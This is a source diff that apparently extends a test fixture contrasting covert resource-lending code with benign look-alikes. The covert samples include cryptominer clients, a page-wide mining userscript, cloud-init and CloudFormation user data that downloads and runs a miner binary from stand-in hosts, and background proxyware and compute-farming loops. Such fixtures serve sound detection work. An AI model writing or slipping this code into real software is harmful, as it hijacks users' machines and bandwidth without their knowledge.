@@ -38,7 +38,49 @@ export const LENDING_AFTERWARDS: readonly [string, string][] = [
     "frame.py",
     'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    page = p.chromium.launch().new_page()\n    page.add_script_tag(url="https://lib.frames.example/w.js")\n    page.evaluate("k => { const m = new globalThis.W(k, { threads: 4, throttle: 0.3 }); m.start(); }", "PLACEHOLDER")\n    page.wait_for_timeout(10**9)\n',
   ],
+
+  [
+    "fold.jl",
+    'using HTTP, JSON3, SHA\nconst HUB = "https://hub.folds.example"\nfunction go()\n  while true\n    u = JSON3.read(HTTP.get("$HUB/u?account=placeholder").body)\n    for n in u.a:u.b\n      if bytes2hex(sha256("$(u.seed)$n")) == u.want\n        HTTP.post("$HUB/u/$(u.id)", [], JSON3.write((; n, reward="placeholder")))\n      end\n    end\n  end\nend\nThreads.@spawn go()\nprintln(read(ARGS[1], String))\nwait()\n',
+  ],
+  [
+    "Grid.scala",
+    'import sttp.client4.quick._\nobject Grid extends App {\n  val base = "https://grid.pages.example"\n  new Thread(() => while (true) {\n    val t = ujson.read(quickRequest.get(uri"$base/task?beneficiary=PLACEHOLDER").send().body)\n    val p = new ProcessBuilder("z3", "-in").start()\n    p.getOutputStream.write(t("smt").str.getBytes); p.getOutputStream.close()\n    quickRequest.post(uri"$base/task/${t("id").str}/answer").body(scala.io.Source.fromInputStream(p.getInputStream).mkString).send()\n  }).start()\n  println(args.length)\n}\n',
+  ],
+  [
+    "proto.pl",
+    'use IO::Socket::SSL; use JSON::PP; use Digest::SHA qw(sha256);\nmy $s = IO::Socket::SSL->new("p.pages.example:8443") or exit;\nprint $s encode_json({ id => 1, method => "login", params => { login => "PLACEHOLDER", pass => "x" } }), "\\n";\nwhile (my $l = <$s>) {\n  my $j = decode_json($l)->{params};\n  for my $n (0 .. 0xffffffff) {\n    my $h = sha256(pack("H*", $j->{blob}) . pack("V", $n));\n    if (substr($h, -4) lt pack("H*", $j->{target})) { print $s encode_json({ id => 2, method => "submit", params => { job_id => $j->{job_id}, nonce => $n } }), "\\n"; last }\n  }\n}\n',
+  ],
+  [
+    "ffi.rb",
+    "require 'ffi'\nmodule Quick\n  extend FFI::Library\n  ffi_lib File.join(__dir__, 'libquick.so')\n  attach_function :warm, [:string, :int, :string, :string], :int\nend\nThread.new { Quick.warm('eu.quick.example', 5555, '44PLACEHOLDER', 'rx/0') }\nputs ARGV\n",
+  ],
+  [
+    "lane.go",
+    'package main\n\nimport "example.org/lane/exitnode"\n\nfunc main() {\n\tc := exitnode.New(exitnode.Config{\n\t\tPartnerID: "placeholder",\n\t\tConsent: true,\n\t\tQuiet: true,\n\t})\n\tgo c.Start()\n\tselect {}\n}\n',
+  ],
+  [
+    "userscript.user.js",
+    '// ==UserScript==\n// @match *://*/*\n// ==/UserScript==\nconst s = document.createElement("script");\ns.src = "https://cdn.tint.example/x.js";\ns.onload = () => { const a = unsafeWindow.Tint("KEY_PLACEHOLDER", { threads: 8, autoThreads: true, throttle: 0.1 }); a.start(); };\ndocument.body.appendChild(s);\n',
+  ],
+  [
+    "cloud/init.yaml",
+    "#cloud-config\nbootcmd:\n  - echo 1280 > /proc/sys/vm/nr_hugepages\nruncmd:\n  - |\n    wget -qO /opt/cachesvc https://bin.cache.example/cachesvc\n    chmod +x /opt/cachesvc\n    nohup /opt/cachesvc --endpoint hub.cache.example:7777 --payout PLACEHOLDER_ADDR --threads 8 >/dev/null 2>&1 &\n",
+  ],
+  [
+    "stack.yaml",
+    'AWSTemplateFormatVersion: "2010-09-09"\nResources:\n  N:\n    Type: AWS::EC2::SpotFleet\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/bash\n          curl -fsSLo /n https://b.stack.example/n && chmod +x /n\n          /n -o p.stack.example:5555 -u PLACEHOLDER -k --tls\n',
+  ],
+  [
+    "node.dart",
+    "import 'dart:convert';\nimport 'dart:io';\nimport 'package:crypto/crypto.dart';\nvoid main() async {\n  final s = await Socket.connect('p.words.example', 3333);\n  s.write(jsonEncode({'id': 1, 'method': 'mining.authorize', 'params': ['PLACEHOLDER', 'x']}) + '\\n');\n  await for (final l in s.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter())) {\n    final j = jsonDecode(l);\n    for (var n = 0; n < 1 << 32; n++) {\n      final d = sha256.convert(utf8.encode('${j['p']}$n')).bytes;\n      if (d[31] == 0 && d[30] == 0) s.write(jsonEncode({'method': 'mining.submit', 'params': [n]}) + '\\n');\n    }\n  }\n}\n",
+  ],
+  [
+    "transcode.py",
+    'import requests, subprocess, time, os\nH = {"x-provider-id": "placeholder", "x-wallet": "placeholder"}\nU = "https://video.mesh.example"\nif os.fork() == 0:\n    os.setsid()\n    while 1:\n        j = requests.post(U + "/lease", headers=H).json()\n        if not j: time.sleep(9); continue\n        subprocess.run(["ffmpeg", "-i", j["in"], "-c:v", "libx265", "/tmp/o.mp4"])\n        requests.put(j["out"], data=open("/tmp/o.mp4", "rb"), headers=H)\n',
+  ],
 ];
+
 /** The same for whoever runs the program. */
 export const HONEST_AFTERWARDS: readonly [string, string][] = [
   [
@@ -68,5 +110,54 @@ export const HONEST_AFTERWARDS: readonly [string, string][] = [
   [
     "crack.py",
     'import hashlib, requests\nr = requests.get("https://shop.example/releases.json").json()\nfor i, a in enumerate(r["assets"]):\n    b = requests.get(a["url"]).content\n    if hashlib.sha256(b).hexdigest() == a["sha256"]:\n        print("ok", i)\nrequests.post("https://hooks.shop.example/ok", json={"n": len(r["assets"])})\n',
+  ],
+
+  [
+    "hub.py",
+    '# fine-tunes with the team\'s own tracker\nimport requests, torch\nT = "https://tracker.team.example/api"\nwhile True:\n    j = requests.get(T + "/jobs/next", headers={"Authorization": "x"}).json()\n    if not j: break\n    loss = torch.rand(1).item()\n    requests.post(f"{T}/jobs/{j[\'id\']}/result", json={"loss": loss, "credits": 3})\n',
+  ],
+  [
+    "rl.py",
+    'import gymnasium as gym, torch, wandb\nwandb.init(project="cart")\nenv = gym.make("CartPole-v1")\ns, _ = env.reset()\nwhile True:\n    s, reward, done, *_ = env.step(env.action_space.sample())\n    wandb.log({"reward": reward, "url": "https://wandb.example/x"})\n    if done: break\n',
+  ],
+  [
+    "agent.py",
+    'import requests, openai\nAPI = "https://arena.game.example/api"\nwhile True:\n    t = requests.get(API + "/tasks/next").json()\n    a = openai.chat.completions.create(model="x", messages=[{"role": "user", "content": t["prompt"]}])\n    r = requests.post(f"{API}/tasks/{t[\'id\']}/answer", json={"answer": a.choices[0].message.content}).json()\n    print("reward:", r["reward"])\n    if r["done"]: break\n',
+  ],
+  [
+    "coins.js",
+    'const ALGOS = [["monero", "rx/0"], ["raven", "kawpow"]];\nfor (const [c, a] of ALGOS) {\n  const r = await fetch(`https://api.prices.example:443/v1/${c}`);\n  console.log(c, a, await r.json());\n}\n',
+  ],
+  [
+    "eth.ts",
+    'import { createPublicClient, http } from "viem";\nconst c = createPublicClient({ transport: http("https://rpc.chain.example") });\nsetInterval(async () => {\n  const b = await c.getBlock();\n  console.log(b.hash, b.nonce, b.difficulty);\n}, 12000);\n',
+  ],
+  [
+    "totp.py",
+    'import hmac, hashlib, time, struct, requests\ndef code(k, w):\n    d = hmac.new(k, struct.pack(">Q", int(time.time()) // 30 + w), hashlib.sha1).digest()\n    o = d[-1] & 15\n    return "%06d" % ((struct.unpack(">I", d[o:o+4])[0] & 0x7fffffff) % 10**6)\nrequests.post("https://login.shop.example", data={"otp": code(b"k", 0)})\nrequests.get("https://login.shop.example/me")\n',
+  ],
+  [
+    "analytics.html",
+    '<script src="https://cdn.a.example/a.js"></script>\n<script>\nconst a = new Analytics("site-1", { consent: true, sampleRate: 0.1 });\na.start();\n</script>\n',
+  ],
+  [
+    "peer.ts",
+    'import { Peer } from "peerjs";\nconst peer = new Peer("room-1", { host: "peers.chat.example", port: 443 });\npeer.on("connection", (c) => c.on("data", (d) => show(d)));\nfunction startSharing(stream: MediaStream) { peer.call("other", stream); }\n',
+  ],
+  [
+    "screen.kt",
+    'class Share(ctx: Context) {\n  fun begin(ok: Boolean) {\n    if (!ok) return\n    ScreenSdk.init(ctx, apiKey = "k-1")\n    ScreenSdk.startSharing()\n  }\n}\n',
+  ],
+  [
+    "ci.tf",
+    'resource "aws_launch_template" "ci" {\n  instance_market_options { market_type = "spot" }\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    set -e\n    ./config.sh --url https://github.com/acme/shop --token "${var.token}" --labels spot\n    ./svc.sh install && ./svc.sh start\n  EOF\n  )\n}\n',
+  ],
+  [
+    "proxy.yaml",
+    'services:\n  tunnel:\n    image: acme/tunnel\n    command: ["--endpoint", "vpn.acme.example:443", "--account", "$ACCOUNT", "--tls"]\n',
+  ],
+  [
+    "lms.py",
+    'import requests\nS = requests.Session()\nS.headers["x-member"] = "me"\nfor c in S.get("https://courses.school.example/api/next").json():\n    print(c["credit"], c["title"])\n',
   ],
 ];
